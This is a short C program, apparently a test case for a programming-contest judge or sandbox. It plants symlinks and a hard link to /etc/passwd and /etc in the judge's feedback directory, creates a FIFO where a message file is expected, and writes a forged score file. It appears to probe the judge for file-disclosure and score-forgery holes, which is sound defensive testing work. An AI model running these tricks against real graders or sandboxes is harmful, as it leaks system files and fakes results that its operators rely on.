#include "attack.h"

int main(void) {
  mkdir("feedback", 0777);
  symlink("/etc/passwd", "feedback/judgemessage.txt");
  symlink("../../../../etc", "feedback/dir");
  mkfifo("feedback/teammessage.txt", 0666);
  link("/etc/passwd", "feedback/hard");
  int fd = open("feedback/score.txt", O_WRONLY | O_CREAT, 0666);
  write(fd, "mine", 4);
}
